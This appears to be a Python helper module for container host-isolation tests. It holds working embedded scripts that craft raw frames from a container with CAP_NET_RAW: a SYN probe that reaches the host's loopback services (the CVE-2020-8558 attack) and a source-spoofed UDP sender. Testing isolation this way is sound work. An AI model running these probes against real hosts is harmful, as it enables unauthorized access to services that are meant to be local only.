"""Hand-made packets for the host-isolation tests: what a container with CAP_NET_RAW can send.

A process in a container cannot route to 127.0.0.1 through its own stack
(that is its own loopback), but with a packet socket it can put any IPv4
packet on its veth, addressed to the bridge's MAC: that is the attack of
Kubernetes CVE-2020-8558 against a host with ``route_localnet=1``. The
scripts below run inside the container's network namespace (``ip netns exec``
or ``nsenter --net=/proc/PID/ns/net``) with the host's python, so a busybox
image needs nothing of its own.
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Sequence

# argv: IFNAME DST_MAC SRC_IP DST_IP DST_PORT
# Sends TCP SYNs and prints what came back: "syn-ack" (a listener answered: a
# session can be opened), "rst" (the host's stack saw it, no listener), "none".
SYN_PROBE = r"""
import random, socket, struct, sys, time

ifname, dst_mac, src_ip, dst_ip, dport = sys.argv[1:6]
dport = int(dport)

def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
s.bind((ifname, 0x0800))
src_mac = s.getsockname()[4]
sport = random.randint(20000, 60000)
seq = random.randint(0, 2**32 - 1)
src, dst = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
ident = random.randint(0, 65535)
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ident, 0, 64, 6, 0, src, dst)
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
frame = bytes.fromhex(dst_mac.replace(":", "")) + src_mac + b"\x08\x00" + ip + tcp
s.settimeout(0.2)
deadline = time.monotonic() + 3
next_send = 0.0
while time.monotonic() < deadline:
    if time.monotonic() >= next_send:
        s.send(frame)
        next_send = time.monotonic() + 0.5
    try:
        data = s.recv(2048)
    except TimeoutError:
        continue
    ipd = data[14:]
    if len(ipd) < 40 or ipd[9] != 6 or ipd[12:16] != dst:
        continue
    off = (ipd[0] & 0x0F) * 4
    sp, dp = struct.unpack("!HH", ipd[off:off + 4])
    if sp != dport or dp != sport:
        continue
    flags = ipd[off + 13]
    print("syn-ack" if flags & 0x12 == 0x12 else "rst" if flags & 0x04 else f"flags={flags}")
    sys.exit(0)
print("none")
"""

# argv: IFNAME DST_MAC SRC_IP DST_IP DST_PORT PAYLOAD
# Sends one UDP datagram with any source address (a blind spoof) and exits.
UDP_SPOOF = r"""
import socket, struct, sys

ifname, dst_mac, src_ip, dst_ip, dport, payload = sys.argv[1:7]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
s.bind((ifname, 0x0800))
src_mac = s.getsockname()[4]
data = payload.encode()
udp = struct.pack("!HHHH", 40000, int(dport), 8 + len(data), 0) + data  # no checksum: allowed
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                 socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
words = struct.unpack("!10H", ip)
c = sum(words)
while c >> 16:
    c = (c & 0xFFFF) + (c >> 16)
ip = ip[:10] + struct.pack("!H", ~c & 0xFFFF) + ip[12:]
frame = bytes.fromhex(dst_mac.replace(":", "")) + src_mac + b"\x08\x00" + ip + udp
for _ in range(3):
    s.send(frame)
print("sent")
"""


def _run(prefix: Sequence[str], script: str, *args: str) -> str:
    done = subprocess.run(
        [*prefix, sys.executable, "-c", script, *args],
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def syn_probe(
    prefix: Sequence[str], ifname: str, dst_mac: str, src_ip: str, dst_ip: str, port: int
) -> str:
    """From the namespace ``prefix`` enters: "syn-ack", "rst" or "none" (see SYN_PROBE)."""
    return _run(prefix, SYN_PROBE, ifname, dst_mac, src_ip, dst_ip, str(port))


def udp_spoof(
    prefix: Sequence[str],
    ifname: str,
    dst_mac: str,
    src_ip: str,
    dst_ip: str,
    port: int,
    payload: str,
) -> None:
    """Send one UDP datagram from ``src_ip`` (spoofed) to ``dst_ip:port`` via ``dst_mac``."""
    _run(prefix, UDP_SPOOF, ifname, dst_mac, src_ip, dst_ip, str(port), payload)
